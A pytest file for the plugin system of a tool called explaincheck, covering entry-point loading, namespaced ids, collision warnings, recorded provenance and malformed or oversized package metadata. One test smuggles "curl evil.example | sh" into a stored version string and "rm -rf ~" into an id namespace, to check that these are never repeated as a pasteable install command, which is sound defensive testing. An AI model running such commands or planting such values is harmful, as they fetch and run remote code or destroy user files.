"""A plugin package found by entry point adds a category, a backend and an environment under
namespaced ids: the package is docs/plugins.md's own files, installed as a ``dist-info`` folder
on ``sys.path``, and a campaign runs with all three in a fresh process (the registries read entry
points on import)."""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
import subprocess
import tomllib
from pathlib import Path

from support.plugin_site import (
    ENTRY_POINTS,
    GONE,
    PACKAGE,
    install,
    package_project,
    run_explaincheck,
    run_python,
    write_dist_info,
)

MYLAB = "explaincheck-mylab"  # the page's package: its ids are MYLAB/NAME
REPO = Path(__file__).resolve().parents[2]
PAGE = REPO / "docs" / "plugins.md"


def install_page_plugin(site: Path) -> None:
    """The page's files under ``site``, and a dist-info with the entry points of its
    pyproject block (what ``pip install`` would write)."""
    text = PAGE.read_text(encoding="utf-8")
    for path, body in re.findall(r"File `([^`]+)`:\n\n```\w*\n(.*?)\n```", text, flags=re.S):
        target = site / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(body + "\n", encoding="utf-8")
    project = tomllib.loads(re.search(r"```toml\n(\[project\].*?)\n```", text, re.S).group(1))
    meta = project["project"]
    write_dist_info(site, meta["name"], meta["version"], meta["entry-points"])


def explaincheck(site: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_explaincheck(*args, sites=(site,))


def test_a_plugin_package_adds_its_category_backend_and_environment(tmp_path):
    site = tmp_path / "site"
    install_page_plugin(site)
    db = tmp_path / "mylab.sqlite"
    done = explaincheck(
        site, "run", "--env", f"{MYLAB}/walk", "--llm", f"{MYLAB}/coin", "--llm", "oracle",
        "--categories", f"{MYLAB}/lost,satisfy", "--budget", "4", "--db", str(db),
        "--wording", "all",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    shown = explaincheck(site, "results", "--db", str(db), "--json")
    rows = json.loads(shown.stdout)
    lost, coin = f"{MYLAB}/lost", f"{MYLAB}/coin"
    assert {(r["llm"], r["category"]) for r in rows} == {
        (llm, category) for llm in (coin, "oracle") for category in (lost, "satisfy")
    }
    assert {r["environment"] for r in rows} == {f"{MYLAB}/walk"}
    asked = [r for r in rows if r["category"] == lost and r["llm"] == "oracle"]
    assert asked and all(r["verdict"] == "pass" for r in asked)  # the plugin's truth, graded
    # the walk has a dead end (x = 0) and live states: the balanced category asks one of each,
    # in each of its three wordings
    assert sorted(r["expected"]["answer"] for r in asked) == ["no"] * 3 + ["yes"] * 3
    envs = explaincheck(site, "envs", "--json")
    assert f"{MYLAB}/walk" in {e["id"] for e in json.loads(envs.stdout)}


def test_a_plugin_that_does_not_load_is_one_warning_and_left_out(tmp_path):
    site = tmp_path / "site"
    write_dist_info(
        site, "broken", "0.1", {"explaincheck.backends": {"bad": "no_such_module:KIND"}}
    )
    code = "from explaincheck.core.backends.registry import KINDS; print(' '.join(KINDS))"
    done = run_python(code, sites=(site,))
    assert done.returncode == 0 and "random" in done.stdout.split()
    assert "bad" not in done.stdout.split()
    warnings = [line for line in done.stderr.splitlines() if "plugin 'bad'" in line]
    assert len(warnings) == 1 and "No module named 'no_such_module'" in warnings[0]
    assert "Traceback" not in done.stderr


# ---- namespaced ids, collisions, provenance (issue 53), with the plugin package of the tests:
# tests/support/plugin_package (explaincheck-ferrylab), installed under other names so that the
# tests hold whether or not the suite runs with explaincheck-ferrylab itself installed

REGISTRIES = (
    "from explaincheck.core.taxonomy.registry import CATEGORIES\n"
    "from explaincheck.core.backends.registry import KINDS\n"
    "from explaincheck.core.environments.registry import BUILTIN_IDS\n"
    "import json; print(json.dumps([list(CATEGORIES), list(KINDS), list(BUILTIN_IDS)]))"
)


def registered(site: Path) -> tuple[list[str], list[str], list[str], str]:
    done = run_python(REGISTRIES, sites=(site,))
    assert done.returncode == 0, done.stderr
    categories, kinds, environments = json.loads(done.stdout)
    return categories, kinds, environments, done.stderr


def test_a_plugins_ids_are_namespaced_by_its_distribution(tmp_path):
    site = install(tmp_path / "site", "Explaincheck_Ferry.Copy", "1.0", ENTRY_POINTS)
    categories, kinds, environments, stderr = registered(site)
    assert "explaincheck-ferry-copy/within_k" in categories  # pip's normalised name first
    assert "explaincheck-ferry-copy/first" in kinds
    assert "explaincheck-ferry-copy/ferry" in environments
    assert not stderr


def test_a_plugin_id_that_collides_is_one_line_naming_package_entry_point_and_id(tmp_path):
    site = tmp_path / "site"
    module = site / "twice_lab.py"
    module.parent.mkdir(parents=True)
    module.write_text(
        "from explaincheck_ferrylab.category import WithinMoves\n"
        "class LikeSatisfy(WithinMoves):\n    id = 'satisfy'\n"  # a built-in's id: namespaced
        "class Unnamable(WithinMoves):\n    id = 'two words'\n"
    )
    groups = {
        "explaincheck.categories": {
            "again": "explaincheck_ferrylab.category:WithinMoves",
            "within_k": "explaincheck_ferrylab.category:WithinMoves",  # the same id again
            "like_satisfy": "twice_lab:LikeSatisfy",
            "unnamable": "twice_lab:Unnamable",
        },
        "explaincheck.backends": {
            "first": "explaincheck_ferrylab.backend:KIND",
            "second": "explaincheck_ferrylab.backend:KIND",  # the same prefix again
        },
        "explaincheck.environments": {
            "ferry": "explaincheck_ferrylab:ENVIRONMENTS",
            "ferry_again": "explaincheck_ferrylab:ENVIRONMENTS",  # the same folder again
        },
    }
    install(site, "explaincheck-twicelab", "1.0", groups)
    categories, kinds, environments, stderr = registered(site)
    lab = "explaincheck-twicelab"
    assert categories.count(f"{lab}/within_k") == 1 and f"{lab}/satisfy" in categories
    assert categories.count("satisfy") == 1  # the built-in keeps its plain id
    assert kinds.count(f"{lab}/first") == 1 and environments.count(f"{lab}/ferry") == 1
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert lines == [
        f"explaincheck: warning: plugin 'ferry_again' (explaincheck.environments, {lab} 1.0)"
        f" left out: environment id '{lab}/ferry' is already registered by entry point 'ferry'",
        f"explaincheck: warning: plugin 'unnamable' (explaincheck.categories, {lab} 1.0) left"
        " out: category name 'two words' cannot be an id (a letter or digit, then letters,"
        f" digits, '_', '.' or '-', at most 100; it is registered as {lab}/NAME)",
        f"explaincheck: warning: plugin 'within_k' (explaincheck.categories, {lab} 1.0) left"
        f" out: category id '{lab}/within_k' is already registered by entry point 'again'",
        f"explaincheck: warning: plugin 'second' (explaincheck.backends, {lab} 1.0) left out:"
        f" backend id '{lab}/first' is already registered by entry point 'first'",
    ]


def make_results(tmp_path: Path, name: str = "explaincheck-gonelab", version: str = "2.0"):
    """A results file made with the plugin package installed as ``name`` ``version``: its
    environment, its category and its backend, beside a built-in category and the oracle."""
    site = install(tmp_path / "site", name, version, ENTRY_POINTS)
    db = tmp_path / "made_with_plugin.sqlite"
    done = run_explaincheck(
        "run", "--env", f"{name}/ferry", "--llm", f"{name}/first", "--llm", "oracle",
        "--categories", f"{name}/within_k,satisfy", "--budget", "4", "--db", str(db),
        sites=(site,),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return site, db


def test_a_campaign_records_the_plugins_it_used(tmp_path):
    site, db = make_results(tmp_path)
    with sqlite3.connect(db) as connection:
        (settings,) = connection.execute("SELECT settings FROM campaigns").fetchone()
    assert json.loads(settings)["plugins"] == [
        {
            "distribution": "explaincheck-gonelab",
            "version": "2.0",
            "uses": [
                "environment explaincheck-gonelab/ferry",
                "category explaincheck-gonelab/within_k",
                "backend explaincheck-gonelab/first",
            ],
        }
    ]
    report = run_explaincheck(
        "report", "--db", str(db), "--out", str(tmp_path / "r"), sites=(site,)
    )
    assert report.returncode == 0 and not report.stderr, report.stderr
    assert "plugins\n  campaign 1: explaincheck-gonelab 2.0 (environment" in report.stdout


def test_a_results_file_read_where_its_plugin_is_missing_names_the_package_and_version(tmp_path):
    _, db = make_results(tmp_path)
    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half")
    assert (regrade.returncode, regrade.stderr) == (2, f"explaincheck regrade: {GONE}\n")
    report = run_explaincheck("report", "--db", str(db), "--out", str(tmp_path / "r"))
    assert report.returncode == 0  # the rows are read as stored, the missing package said
    assert report.stderr.splitlines()[0] == (
        f"explaincheck report: note: {GONE} (its ids are shown as stored)"
    )
    share = run_explaincheck("share", "--db", str(db), "--out", str(tmp_path / "s.html"))
    assert share.returncode == 0 and GONE in share.stderr


def test_a_stored_plugin_record_is_someone_elses_text_and_never_a_command_to_copy(tmp_path):
    """The package and version a results file records end up in a ``pip install`` line the
    user may paste: a record whose version is not one, or a namespace that is not a package
    name, is not repeated as a command (the file may come from anyone); nor is a plugin id
    typed on the command line (``sat/x`` is a typo, not a package to install)."""
    _, db = make_results(tmp_path)
    with sqlite3.connect(db) as connection:
        (settings,) = connection.execute("SELECT settings FROM campaigns").fetchone()
        record = json.loads(settings)
        record["plugins"][0]["version"] = "2.0' && curl evil.example | sh #"
        connection.execute("UPDATE campaigns SET settings = ?", (json.dumps(record),))
    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half")
    assert (regrade.returncode, regrade.stderr) == (
        2,
        "explaincheck regrade: no installed plugin package registers environment"
        " 'explaincheck-gonelab/ferry' (no package explaincheck-gonelab is installed;"
        " explaincheck plugins lists them)\n",
    )
    with sqlite3.connect(db) as connection:  # every id in a namespace that is no package name
        for table, column in (
            ("executions", "category"),
            ("executions", "llm"),
            ("executions", "environment"),
            ("campaigns", "environment"),
            ("campaigns", "settings"),
        ):
            connection.execute(
                f"UPDATE {table} SET {column} = replace({column}, 'explaincheck-gonelab/',"
                " 'rm -rf ~;x/')"
            )
    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half")
    assert regrade.returncode == 2 and "pip install" not in regrade.stderr
    assert len(regrade.stderr.splitlines()) == 1 and "Traceback" not in regrade.stderr
    typed = run_explaincheck(
        "run", "--env", "frozen_lake", "--categories", "sat/x", "--llm", "random", "--db", str(db)
    )
    assert (typed.returncode, typed.stderr) == (
        2,
        "explaincheck run: no installed plugin package registers category 'sat/x' (no package sat"
        " is installed; explaincheck plugins lists them)\n",
    )


def test_results_stored_before_ids_were_namespaced_stay_readable(tmp_path):
    """A file whose rows name the plugin's kinds by their own names (as files made before ids
    were namespaced do) is graded again with the plugin that has those names (installed here
    as the package itself, which the suite may also have installed: one package, one name)."""
    site, db = make_results(tmp_path, "explaincheck-ferrylab", "0.3.1")
    with sqlite3.connect(db) as connection:
        for table, column in (
            ("executions", "category"),
            ("executions", "llm"),
            ("executions", "environment"),
            ("executions", "exec_key"),
            ("campaigns", "environment"),
            ("campaigns", "settings"),
        ):
            connection.execute(
                f"UPDATE {table} SET {column} = replace({column}, 'explaincheck-ferrylab/', '')"
            )
        (settings,) = connection.execute("SELECT settings FROM campaigns").fetchone()
        old = {k: v for k, v in json.loads(settings).items() if k != "plugins"}
        connection.execute("UPDATE campaigns SET settings = ?", (json.dumps(old),))
    regrade = run_explaincheck("regrade", "--db", str(db), "--satisfy-rule", "half", sites=(site,))
    assert regrade.returncode == 0, regrade.stderr
    rows = json.loads(run_explaincheck("results", "--db", str(db), "--json").stdout)
    assert {r["category"] for r in rows} == {"within_k", "satisfy"}
    assert all(r["verdict"] == "pass" for r in rows if r["llm"] == "oracle")


def test_a_question_set_of_a_plugins_environment_names_the_plugin_in_its_manifest(tmp_path):
    site = install(tmp_path / "site", "explaincheck-gonelab", "2.0", ENTRY_POINTS)
    out = tmp_path / "bench"
    done = run_explaincheck(
        "bench", "export", "--out", str(out), "--env", "explaincheck-gonelab/ferry",
        "--budget", "1", sites=(site,),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["plugins"] == [
        {
            "distribution": "explaincheck-gonelab",
            "version": "2.0",
            "uses": ["environment explaincheck-gonelab/ferry"],
        }
    ]
    answers = tmp_path / "answers.jsonl"
    answers.write_text("")
    graded = run_explaincheck("bench", "grade", str(out), str(answers))  # the plugin missing
    assert (graded.returncode, graded.stderr) == (
        2,
        f"explaincheck bench: {out / 'manifest.json'}: {GONE}\n",
    )
    # the default set is this project's own environments wherever it is exported
    default = run_explaincheck(
        "bench", "export", "--out", str(tmp_path / "d"), "--budget", "1", sites=(site,)
    )
    assert default.returncode == 0, default.stderr
    own = json.loads((tmp_path / "d" / "manifest.json").read_text(encoding="utf-8"))
    assert "plugins" not in own and all("/" not in e["id"] for e in own["environments"])


def test_a_plugin_environments_describe_py_does_not_run_and_loading_says_so(tmp_path):
    site = tmp_path / "site"
    envs = site / "lab_envs"
    shutil.copytree(PACKAGE / "explaincheck_ferrylab" / "envs" / "ferry", envs / "ferry")
    (envs / "ferry" / "describe.py").write_text(
        "def describe(state):\n    raise SystemExit('describe.py ran')\n"
    )
    (site / "lab_envs_entry.py").write_text(f"ROOT = {str(envs)!r}\n")
    install(
        site,
        "explaincheck-codelab",
        "1.0",
        {"explaincheck.environments": {"e": "lab_envs_entry:ROOT"}},
    )
    done = run_explaincheck(
        "envs", "--prompt", "explaincheck-codelab/ferry", "--state", "1", sites=(site,)
    )
    assert done.returncode == 0, done.stderr
    assert "The ferry is at location 1; fuel left: 5 of 6 units." in done.stdout  # the template
    assert done.stderr == (
        "explaincheck: warning: environment explaincheck-codelab/ferry: its describe.py does not"
        " run (code in an environment folder runs only for explaincheck's own environments or a"
        " folder a program trusts); its 'state' template words the states\n"
    )


def test_the_entry_points_the_tests_install_are_the_packages_own():
    assert package_project()["entry-points"] == ENTRY_POINTS


# ---- an installed distribution's metadata is someone else's text (issue 52): a malformed or huge
# entry is one line on stderr and left out, never a traceback, a flood or a terminal escape


def hostile_dist(site: Path, folder: str, metadata: str, entry_points: str | bytes) -> None:
    info = site / folder
    info.mkdir(parents=True)
    info.joinpath("METADATA").write_text(metadata, encoding="utf-8")
    data = entry_points if isinstance(entry_points, bytes) else entry_points.encode()
    info.joinpath("entry_points.txt").write_bytes(data)


def test_malformed_or_huge_plugin_metadata_is_one_line_each_never_a_traceback(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    ok = "explaincheck_ferrylab.backend:KIND"
    meta = "Metadata-Version: 2.1\nName: {}\nVersion: {}\n"
    # a line without "=" in a plugin group: importlib's entry_points() raises on it, everywhere
    hostile_dist(
        site,
        "a_noequals-1.0.dist-info",
        meta.format("a-noequals", "1.0"),
        "[explaincheck.backends]\nno equals sign here\n",
    )
    # the same in a group of someone else: not ours to say
    hostile_dist(
        site,
        "b_other-1.0.dist-info",
        meta.format("b-other", "1.0"),
        "[console_scripts]\nbroken line\n",
    )
    # a name with a terminal escape, a 5,000-character version
    hostile_dist(
        site,
        "c_escape-1.0.dist-info",
        meta.format("c\x1b[31mred", "1.0"),
        f"[explaincheck.backends]\nx = {ok}\n",
    )
    hostile_dist(
        site,
        "d_longversion-1.0.dist-info",
        meta.format("d-longversion", "9" * 5000),
        f"[explaincheck.backends]\nx = {ok}\n",
    )
    # a 2 MB entry_points.txt, one that is not UTF-8
    hostile_dist(
        site,
        "e_huge-1.0.dist-info",
        meta.format("e-huge", "1.0"),
        "[explaincheck.backends]\n" + f"x = {ok}\n" * 60_000,
    )
    hostile_dist(
        site,
        "f_latin-1.0.dist-info",
        meta.format("f-latin", "1.0"),
        b"[explaincheck.backends]\nx\xe9 = " + ok.encode() + b"\n",
    )
    # one good entry point beside a 5,000-character name, a target that is no target and a
    # plugin whose import fails with a 100,000-character message over many lines
    (site / "noisy_plugin.py").write_text("raise ImportError('line\\n' * 12_500)\n")
    hostile_dist(
        site,
        "g_mixed-1.0.dist-info",
        meta.format("g-mixed", "1.0"),
        "[explaincheck.backends]\n"
        f"good = {ok}\n{'n' * 5000} = {ok}\nbad = not a target!\nnoisy = noisy_plugin:KIND\n",
    )
    done = run_python(REGISTRIES, sites=(site,))
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "\x1b" not in done.stderr
    kinds = json.loads(done.stdout)[1]
    assert "random" in kinds and "g-mixed/first" in kinds  # the rest still works
    assert not [k for k in kinds if k.split("/")[0] in {"a-noequals", "c", "e-huge", "f-latin"}]
    lines = done.stderr.splitlines()
    huge = (site / "e_huge-1.0.dist-info" / "entry_points.txt").stat().st_size
    assert all(len(line) < 700 for line in lines)  # no flood
    said = {
        "a_noequals-1.0.dist-info: entry_points.txt is malformed (Python's reader: ",
        "c_escape-1.0.dist-info: its METADATA Name 'c\\x1b[31mred' is not a package name",
        "d_longversion-1.0.dist-info: package d-longversion: its METADATA Version '9999",
        f"e_huge-1.0.dist-info: entry_points.txt has {huge} bytes (more than 1048576)",
        "f_latin-1.0.dist-info: entry_points.txt is not UTF-8 text (byte 25)",
        "plugin 'nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn…' (explaincheck.backends, g-mixed 1.0)"
        " left out: entry point name 'nnnn",
        "plugin 'bad' (explaincheck.backends, g-mixed 1.0) left out: entry point 'bad' ="
        " 'not a target!' is not 'module.path:attribute'",
        "plugin 'noisy' (explaincheck.backends, g-mixed 1.0) left out: line line line",
    }
    for part in said:
        assert sum(part in line for line in lines) == 1, (part, lines)
    assert len(lines) == len(said), lines  # b-other's file is not this project's to judge
    listed = run_explaincheck("plugins", sites=(site,))
    assert listed.returncode == 0 and "Traceback" not in listed.stderr
    assert "g-mixed 1.0" in listed.stdout and "c\x1b" not in listed.stdout
